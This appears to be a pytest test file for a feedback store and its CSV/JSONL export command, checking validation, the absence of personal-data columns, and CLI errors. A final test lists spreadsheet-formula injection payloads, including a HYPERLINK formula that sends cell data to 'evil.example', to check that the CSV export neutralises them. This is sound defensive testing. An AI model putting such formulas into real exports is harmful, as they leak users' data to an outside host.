"""The feedback store and `hcb feedback export`, without a browser."""

from __future__ import annotations

import csv
import json
import sqlite3
from datetime import datetime, timezone

import pytest
from typer.testing import CliRunner

from assistant.cli import app
from assistant.errors import FeedbackError
from assistant.feedback.store import COLUMNS, Feedback, FeedbackStore, db_path, export

PERSONAL = ("ip", "ip_address", "user_agent", "email", "name", "user", "cookie", "host")


def sample(**kw) -> Feedback:
    d = dict(rating="up", question="What will ICBs do?", answer="The Government's response says: “…” [1]",
             behaviour="answer", citations=[{"n": 1, "doc_id": "govt-response", "quote": "…"}],
             settings={"filters": {"kinds": ["government"], "doc_id": ""}, "top_k": 5}, comment="  clear, thanks  ",
             conversation="abc", turn=2)
    d.update(kw)
    return Feedback(**d)


def test_store_round_trip_without_personal_data(tmp_path):
    store = FeedbackStore(db_path(tmp_path / "data"))
    when = datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
    rid = store.add(sample(), now=when)
    store.add(sample(rating="down", comment=""))
    rows = store.rows()
    assert [r["id"] for r in rows] == [rid, rid + 1]
    r = rows[0]
    assert r["created_at"] == "2026-01-02T03:04:05+00:00" and r["rating"] == "up" and r["comment"] == "clear, thanks"
    assert r["citations"][0]["doc_id"] == "govt-response" and r["settings"]["filters"]["kinds"] == ["government"]
    assert r["turn"] == 2 and r["question"] == "What will ICBs do?"
    cols = [c[1] for c in sqlite3.connect(store.path).execute("PRAGMA table_info(feedback)")]
    assert tuple(cols) == COLUMNS
    assert not set(cols) & set(PERSONAL)


def test_store_rejects_unknown_rating_and_truncates_long_comments(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    with pytest.raises(FeedbackError, match="rating must be one of"):
        store.add(sample(rating="meh"))
    store.add(sample(comment="x" * 5000))
    assert len(store.rows()[0]["comment"]) == 2000


def test_export_csv_and_jsonl(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    store.add(sample(question='Comma, "quote" and\nnewline?'))
    rows = store.rows()
    assert export(rows, "jsonl", tmp_path / "out.jsonl") == 1
    back = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert back == rows
    assert export(rows, "csv", tmp_path / "out.csv") == 1
    with (tmp_path / "out.csv").open(newline="") as f:
        got = list(csv.DictReader(f))
    assert got[0]["question"] == 'Comma, "quote" and\nnewline?'
    assert json.loads(got[0]["citations"]) == rows[0]["citations"] and list(got[0]) == list(COLUMNS)
    with pytest.raises(FeedbackError, match="unknown format"):
        export(rows, "xml", tmp_path / "out.xml")


def test_cli_export(tmp_path, monkeypatch):
    data = tmp_path / "data"
    FeedbackStore(db_path(data)).add(sample())
    monkeypatch.setenv("HCB_DATA_DIR", str(data))
    runner = CliRunner()
    res = runner.invoke(app, ["feedback", "export", "--format", "csv", "--out", str(tmp_path / "fb.csv")])
    assert res.exit_code == 0, res.output
    assert "wrote 1 feedback row to" in res.output and (tmp_path / "fb.csv").read_text().startswith("id,created_at,rating")
    res = runner.invoke(app, ["feedback", "export", "--format", "jsonl", "--out", str(tmp_path / "fb.jsonl")])
    assert res.exit_code == 0 and json.loads((tmp_path / "fb.jsonl").read_text())["rating"] == "up"


def test_cli_export_errors_say_what_to_do(tmp_path, monkeypatch):
    import subprocess
    import sys

    env = {"HCB_DATA_DIR": str(tmp_path / "nowhere"), "PATH": "/usr/bin:/bin"}
    res = subprocess.run([sys.executable, "-m", "assistant.cli", "feedback", "export", "--format", "csv", "--out",
                          str(tmp_path / "x.csv")], capture_output=True, text=True, env=env, timeout=60)
    assert res.returncode == 2
    assert res.stderr.strip().splitlines() == [f"error: no feedback database at {tmp_path / 'nowhere' / 'feedback.sqlite3'}: "
                                               "set HCB_DATA_DIR to the web app's data folder"]
    res = subprocess.run([sys.executable, "-m", "assistant.cli", "feedback", "export", "--format", "xml", "--out",
                          str(tmp_path / "x.xml")], capture_output=True, text=True, env=env, timeout=60)
    assert res.returncode == 2 and "use --format csv or --format jsonl" in res.stderr


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)",
                                     "\t=1+1", "\r=1+1"])
def test_csv_export_neutralises_spreadsheet_formulas(tmp_path, payload):
    """A comment or question starting with = + - @ (or tab/CR) is a live formula in Excel/LibreOffice/Sheets:
    the CSV cell gets a leading quote; the JSONL export keeps the exact text."""
    store = FeedbackStore(db_path(tmp_path / "data"))
    store.add(sample(comment=payload, question=payload + " what?"))
    export(store.rows(), "csv", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as f:
        row = next(csv.DictReader(f))
    for key in ("comment", "question"):
        assert row[key].startswith("'"), (key, row[key])
        assert row[key][1:].strip() == (payload if key == "comment" else payload + " what?").strip()
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    export(store.rows(), "jsonl", tmp_path / "out.jsonl")
    assert json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))["question"] == payload + " what?"
